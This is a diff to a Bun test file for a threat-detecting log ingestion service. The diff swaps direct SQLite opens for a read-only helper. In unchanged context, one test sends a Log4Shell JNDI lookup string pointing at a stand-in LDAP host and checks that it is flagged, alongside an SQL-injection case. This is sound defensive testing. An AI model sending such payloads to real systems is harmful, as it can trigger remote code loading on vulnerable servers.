@@ -4,11 +4,10 @@
  * ingestion: every request must be stored exactly once.
  */
 import { afterAll, describe, expect, test } from "bun:test";
-import { Database } from "bun:sqlite";
 import { appendFileSync, existsSync, readFileSync, renameSync, statSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { NGINX_BIN, sendRaw, startNginx, waitForLines, type NginxInstance } from "../helpers/nginx.ts";
-import { dbCounts, startServe, waitFor, type ServeProcess } from "../helpers/serve.ts";
+import { dbCounts, openReadonly, startServe, waitFor, type ServeProcess } from "../helpers/serve.ts";
 import { tempDir } from "../helpers/tmp.ts";
 import { runCli } from "../helpers/cli.ts";
 import { shopLogLines } from "../helpers/site-traffic.ts";
@@ -39,7 +38,7 @@ describeNginx("moat serve with a real nginx", () => {
     await send("/", "${jndi:ldap://198.51.100.7:1389/a}");
     await waitFor("32 stored requests", () => dbCounts(db).requests === sent);
 
-    const sqlite = new Database(db, { readonly: true });
+    const sqlite = openReadonly(db);
     const threat = sqlite.query<{ attack_type: string; reasons: string; endpoint: string }, []>("select attack_type, reasons, endpoint from threats order by id").all();
     sqlite.close();
     expect(threat.map((t) => t.attack_type)).toEqual(["sqli", "log4shell"]);
@@ -47,12 +46,12 @@ describeNginx("moat serve with a real nginx", () => {
     expect(JSON.parse(threat[1]!.reasons)[0]).toMatchObject({ field: "header.user-agent", name: "log4shell" });
     // The services followed the stream: alerts for the critical threats, activities, security checks.
     await waitFor("alerts", () => {
-      const s = new Database(db, { readonly: true });
+      const s = openReadonly(db);
       const n = (s.query("select count(*) as n from alerts").get() as { n: number }).n;
       s.close();
       return n >= 2;
     });
-    const services = new Database(db, { readonly: true });
+    const services = openReadonly(db);
     expect(services.query("select type, severity, source from alerts order by id").all()).toEqual([
       { type: "critical", severity: "high", source: "127.0.0.1" },
       { type: "critical", severity: "high", source: "127.0.0.1" },
@@ -101,7 +100,7 @@ describe("moat serve crash safety", () => {
     await waitFor(`${total} stored requests`, () => dbCounts(db).requests === total, 120_000, seen(second));
     await Bun.sleep(1000);
     expect(dbCounts(db)).toMatchObject({ requests: total, trafficRows: total });
-    const sqlite = new Database(db, { readonly: true });
+    const sqlite = openReadonly(db);
     const integrity = sqlite.query<{ integrity_check: string }, []>("pragma integrity_check").get();
     const distinct = sqlite.query<{ n: number }, []>("select count(distinct user_agent) as n from traffic").get();
     sqlite.close();
@@ -155,7 +154,7 @@ describe("moat serve and the site model on disk", () => {
     };
     const live = () => {
       if (!existsSync(db)) return [];
-      const sqlite = new Database(db, { readonly: true });
+      const sqlite = openReadonly(db);
       try {
         return sqlite.query<{ version: string }, []>("select version from model_versions where kind = 'site' and active = 1").all().map((r) => r.version);
       } catch {
